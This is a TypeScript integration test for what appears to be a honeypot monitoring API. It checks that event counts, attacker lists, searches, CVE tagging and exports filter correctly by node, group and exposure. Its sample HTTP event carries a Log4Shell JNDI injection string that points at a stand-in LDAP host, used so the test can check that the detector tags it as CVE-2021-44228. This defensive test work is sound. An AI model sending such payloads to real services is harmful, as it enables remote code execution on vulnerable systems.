import assert from 'node:assert/strict';
import { after, describe, it, type TestContext } from 'node:test';
import { openApi, type TestNode } from '../support/api-client.ts';
import { startMongo } from '../support/mongo-server.ts';

const day = '2026-11-20';
const at = (hour: number, minute = 0): string =>
  `${day}T${String(hour).padStart(2, '0')}:${String(minute).padStart(2, '0')}:00.000Z`;
const range = `from=${at(8)}&to=${at(11, 59)}`;
const shell = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: a\r\n\r\n';

interface Named {
  items: { name: string; events: number }[];
}

/** Two nodes, one of them in a group; events from the internet and from inside. */
async function sums(t: TestContext, env: Record<string, string> = {}): Promise<void> {
  const api = await openApi(t, { env, overrides: { clock: () => Date.parse(at(12)) } });
  const user = await api.createUser();
  const stranger = await api.createUser();
  const as = <T>(path: string) => api.call<T>('GET', path, { headers: user.headers });
  const [edge, inner] = [await api.createNode(user, 'edge'), await api.createNode(user, 'inner')];
  const made = await api.call<{ id: string }>('POST', '/api/groups', {
    headers: user.headers,
    body: { name: 'site' },
  });
  const group = made.body.id;
  const patched = await api.call('PATCH', `/nodes/${inner.id}`, {
    headers: user.headers,
    body: { group_id: group },
  });
  assert.equal(patched.status, 200, JSON.stringify(patched.body));
  const ssh = { service: 'ssh', activity: 'login failed', payload: 'root:1' };
  const web = { service: 'http', activity: 'http request', payload: shell };
  const send = async (node: TestNode, events: object[]) => {
    const body = events.map((event, n) => ({ timestamp: at(9, n), extra: { session: `s${n}` }, ...event }));
    const { status } = await api.call('POST', '/api/events', { headers: node.headers, body });
    assert.equal(status, 200);
  };
  await send(edge, [
    ...[
      { ...ssh, source_ip: '9.9.9.9' },
      { ...ssh, source_ip: '9.9.9.9' },
    ],
    ...[
      { ...web, source_ip: '203.0.113.80' },
      { ...ssh, source_ip: '10.0.0.9' },
    ],
  ]);
  await send(inner, [
    { ...ssh, source_ip: '10.0.0.7' },
    { ...web, source_ip: '10.0.0.7' },
    { ...ssh, source_ip: '9.9.9.9' },
  ]);

  const top = async (of: string, within = '') =>
    Object.fromEntries(
      (await as<Named>(`/api/top?${range}&of=${of}${within}`)).body.items.map((one) => [
        one.name,
        one.events,
      ]),
    );
  assert.deepEqual(await top('node'), { [edge.id]: 4, [inner.id]: 3 });
  assert.deepEqual(await top('group'), { [group]: 3, none: 4 });
  assert.deepEqual(await top('exposure'), { internet: 4, internal: 3 });
  assert.deepEqual(await top('service', `&node_id=${edge.id}`), { ssh: 3, http: 1 });
  assert.deepEqual(await top('service', `&group_id=${group}`), { ssh: 2, http: 1 });
  assert.deepEqual(await top('service', '&exposure=internal'), { ssh: 2, http: 1 });
  assert.deepEqual(await top('source', `&exposure=internal&node_id=${inner.id}`), { '10.0.0.7': 2 });
  assert.deepEqual(await top('node', `&group_id=${group}&exposure=internet`), { [inner.id]: 1 });
  assert.deepEqual(await top('node', `&group_id=${group}&node_id=${edge.id}`), {});
  assert.match(Object.keys(await top('network'))[0] ?? '', /^AS19281 /);
  assert.equal(
    Object.values(await top('risk')).reduce((a, b) => a + b, 0),
    7,
  );
  assert.deepEqual(await top('vulnerability', '&exposure=internal'), { 'CVE-2021-44228': 1 });

  interface Bucket {
    events: number;
    counts: Record<string, number>;
  }
  const activity = async (query: string) => {
    const { body } = await as<{ buckets: Bucket[] }>(`/api/activity?${range}&bucket=day&${query}`);
    return body.buckets[0];
  };
  assert.deepEqual((await activity('by=group'))?.counts, { [group]: 3, none: 4 });
  const inside = await activity('by=service&exposure=internal');
  assert.deepEqual([inside?.events, inside?.counts], [3, { ssh: 2, http: 1 }]);

  interface Techniques {
    items: { technique: string; events: number; example: string | null }[];
  }
  const { body: techniques } = await as<Techniques>(`/api/techniques?${range}&node_id=${inner.id}`);
  for (const { technique, events, example } of techniques.items) {
    const { body: event } = await as<{ node_id: string; verdict: { techniques: string[] } }>(
      `/api/events/${example}`,
    );
    assert.equal(event.node_id, inner.id);
    assert.ok(event.verdict.techniques.includes(technique) && events > 0);
  }
  assert.ok(techniques.items.length > 0);

  interface Tried {
    from: string | null;
    items: { id: string; events: number; sources: number }[];
  }
  const tried = async (query: string) => (await as<Tried>(`/api/vulnerabilities${query}`)).body;
  assert.deepEqual(
    (await tried('')).items.map(({ events }) => events),
    [2],
  );
  const some = await tried(`?${range}&node_id=${inner.id}`);
  assert.deepEqual(
    some.items.map(({ id, events, sources }) => [id, events, sources]),
    [['CVE-2021-44228', 1, 2]],
  );
  assert.equal(some.from, at(8));
  assert.deepEqual((await tried('?from=2026-10-01&to=2026-10-02')).items, []);

  interface Listed {
    items: { source_ip: string; nodes: Record<string, number>; exposure: string; node_id: string }[];
  }
  const list = async (path: string) => (await as<Listed>(path)).body.items;
  const sources = async (query: string) =>
    (await list(`/api/attackers?${query}`)).map(({ source_ip }) => source_ip).sort();
  assert.deepEqual(await sources(`node_id=${inner.id}`), ['10.0.0.7', '9.9.9.9']);
  assert.deepEqual(await sources('exposure=internal'), ['10.0.0.7', '10.0.0.9']);
  assert.deepEqual(await sources(`group_id=${group}&exposure=internal`), ['10.0.0.7']);
  assert.deepEqual(await sources(`q=node:${edge.id}%20exposure:internet`), ['203.0.113.80', '9.9.9.9']);
  const [nine] = await list('/api/attackers?q=source:9.9.9.9');
  assert.deepEqual(nine?.nodes, { [edge.id]: 2, [inner.id]: 1 });
  const sessions = await list('/api/sessions?exposure=internal');
  assert.deepEqual(
    sessions.map(({ exposure }) => exposure),
    ['internal', 'internal', 'internal'],
  );
  assert.equal((await list(`/api/sessions?group_id=${group}`)).length, 3);
  assert.equal((await list(`/api/events?group_id=${group}&exposure=internal`)).length, 2);
  assert.equal((await list('/api/events?q=exposure:internal%20service:http')).length, 1);
  assert.equal((await list(`/api/events?group_id=${group}&q=payload:jndi`)).length, 1);
  for (const incident of await list(`/api/incidents?group_id=${group}`))
    assert.ok(['10.0.0.7', '9.9.9.9'].includes(incident.source_ip));

  interface Values {
    groups: { group: string; items: { kind: string; title: string }[] }[];
  }
  interface Found {
    groups: { group: string; items: { id: string }[] }[];
  }
  const search = async (q: string, within = '') =>
    Object.fromEntries(
      (await as<Found>(`/api/search?q=${q}${within}`)).body.groups.map(({ group: name, items }) => [
        name,
        items.map(({ id }) => id),
      ]),
    );
  assert.deepEqual((await search('9.9.9.9')).attackers, ['9.9.9.9']);
  assert.deepEqual((await search('9.9.9.9', `&group_id=${group}`)).attackers, ['9.9.9.9']);
  assert.equal((await search('9.9.9.9', '&exposure=internal')).attackers, undefined);
  assert.equal((await search('10.0.0.9', `&node_id=${inner.id}`)).attackers, undefined);
  assert.deepEqual((await search('10.0.0.9', `&node_id=${edge.id}&exposure=internal`)).attackers, [
    '10.0.0.9',
  ]);
  assert.equal((await search('9.9.9.9', `&to=${at(8)}`)).attackers, undefined);
  assert.equal((await search('9.9.9.9', `&to=${at(8)}`)).observables, undefined);
  assert.ok((await search('9.9.9.9', `&from=${at(8)}`)).observables);
  const values = async (q: string, within: string) => {
    const { status, body } = await as<Values>(`/api/search?q=${q}${within}`);
    assert.equal(status, 200, JSON.stringify(body));
    return body.groups
      .flatMap(({ group: name, items }) => (name === 'observables' ? items : []))
      .map(({ kind, title }) => `${kind} ${title}`)
      .sort();
  };
  const jndi = 'url ldap://198.51.100.9/a';
  assert.deepEqual(await values('ldap', `&node_id=${inner.id}&exposure=internal`), [jndi]);
  assert.deepEqual(await values('ldap', `&node_id=${edge.id}&exposure=internet`), [jndi]);
  assert.deepEqual(await values('10.0.0.7', `&group_id=${group}`), ['address 10.0.0.7']);
  assert.deepEqual(await values('10.0.0.7', `&node_id=${edge.id}`), []);
  assert.deepEqual(await values('9.9.9', '&exposure=internet'), ['address 9.9.9.9', 'network 9.9.9.0/24']);
  assert.deepEqual(await values('9.9.9', '&exposure=internal'), []);
  assert.deepEqual(await values('10.0.0', `&group_id=${group}&exposure=internal`), [
    ...['address 10.0.0.7', 'network 10.0.0.0/24'],
  ]);
  assert.equal((await search('edge', `&group_id=${group}`)).nodes, undefined);
  const ofTime = (path: string) => list(`${path}?from=${at(9, 1)}&to=${at(9, 3)}&limit=50`);
  assert.deepEqual((await ofTime('/api/sessions')).map(({ source_ip }) => source_ip).sort(), [
    ...['10.0.0.7', '203.0.113.80', '9.9.9.9', '9.9.9.9'],
  ]);
  assert.deepEqual(
    (await list(`/api/attackers?from=${at(9, 3)}`)).map(({ source_ip }) => source_ip),
    ['10.0.0.9'],
  );

  // A file takes what its list takes, and holds the same.
  const file = async (path: string, headers = user.headers) => {
    const { status, body } = await api.call<unknown>('GET', path, { headers });
    assert.equal(status, 200, `${path} ${JSON.stringify(body)}`);
    const lines = typeof body === 'string' ? body.split('\n').filter((line) => line !== '') : [body];
    return lines.map(
      (line) => (typeof line === 'string' ? JSON.parse(line) : line) as { [key: string]: unknown },
    );
  };
  const some3 = `from=${at(9, 1)}&to=${at(9, 3)}`;
  for (const [name, id, lists] of [
    [
      'events',
      'log_id',
      [
        some3,
        `node_id=${inner.id}`,
        `group_id=${group}`,
        'exposure=internal',
        `${some3}&exposure=internal&q=service:http`,
      ],
    ],
    [
      'attackers',
      'source_ip',
      [`from=${at(9, 3)}`, `node_id=${inner.id}`, `group_id=${group}&exposure=internal`],
    ],
    ['sessions', 'session', [some3, `node_id=${edge.id}`, `group_id=${group}`, 'exposure=internal']],
    ['incidents', 'incident_id', [`to=${at(8)}`, `node_id=${inner.id}`, `group_id=${group}`]],
    ['deliveries', 'delivery_id', [`to=${at(8)}`]],
  ] as const)
    for (const query of lists) {
      const listed = (await list(`/api/${name}?limit=50&${query}`)) as unknown as {
        [key: string]: unknown;
      }[];
      const all = await list(`/api/${name}?limit=50`);
      const path = `/api/${name}/export?${query}`;
      assert.deepEqual(
        (await file(path)).map((one) => one[id]),
        listed.map((one) => one[id]),
        path,
      );
      if (all.length > 0)
        assert.ok(listed.length < all.length || name === 'incidents', `${path} narrows nothing`);
    }
  const alerts = await as<{ alert_id: string }[]>(`/api/alerts?node_id=${edge.id}&${some3}`);
  assert.deepEqual(
    (await file(`/api/alerts/export?node_id=${edge.id}&${some3}`)).map(({ alert_id }) => alert_id),
    alerts.body.map(({ alert_id }) => alert_id),
  );
  for (const query of [
    '',
    `&from=${at(6)}&to=${at(12)}`,
    '&sort=rise',
    '&sort=first_seen',
    `&sort=first_seen&to=${at(8)}`,
  ]) {
    const listed = (await list(`/api/observables?kind=address&limit=50${query}`)) as unknown as {
      value: string;
      in_range?: number;
    }[];
    const values = await file(`/api/observables/export?kind=address${query}`);
    assert.deepEqual(
      values.map(({ value, in_range }) => [value, in_range]),
      listed.map(({ value, in_range }) => [value, in_range]),
      query,
    );
    assert.equal(listed.length === 0, query.includes(at(8)), query);
  }
  for (const [query, status] of [
    ['observables/export?kind=url&sort=rise&from=2026-01-01', 400],
    ['observables/export?kind=url&from=2026-11-02&to=2026-11-01', 400],
    ['observables/export?kind=url&sort=loudest', 422],
    ['events/export?from=yesterday', 422],
    ['attackers/export?node_id=none', 404],
  ] as const)
    assert.equal((await as(`/api/${query}`)).status, status, query);

  for (const path of [
    ...['events', 'attackers', 'sessions'].map((name) => `/api/${name}/export?format=csv`),
    ...[`/api/top?${range}`, `/api/activity?${range}`, `/api/techniques?${range}`],
    ...[
      `/api/vulnerabilities?${range}`,
      '/api/attackers?limit=1',
      '/api/sessions?limit=1',
      '/api/events?limit=1',
    ],
  ]) {
    const foreign = await api.call('GET', `${path}&group_id=${group}`, { headers: stranger.headers });
    assert.equal(foreign.status, 404, path);
    assert.equal((await as(`${path}&exposure=everywhere`)).status, 422, path);
  }
  const empty = await api.call<{ id: string }>('POST', '/api/groups', {
    headers: user.headers,
    body: { name: 'nobody' },
  });
  for (const path of ['/api/events', '/api/attackers', '/api/sessions', '/api/incidents'])
    assert.deepEqual(await list(`${path}?group_id=${empty.body.id}`), [], path);
}

const mongo = await startMongo();

describe('lists and sums by node, group and exposure', () => {
  after(() => mongo?.close());

  it('count what happened there', (t) => sums(t));

  it('do so on MongoDB', { skip: mongo === null }, (t) =>
    sums(t, { MONGODB_URI: mongo?.uri ?? '', DATABASE_NAME: mongo?.newDatabase() ?? '' }),
  );
});
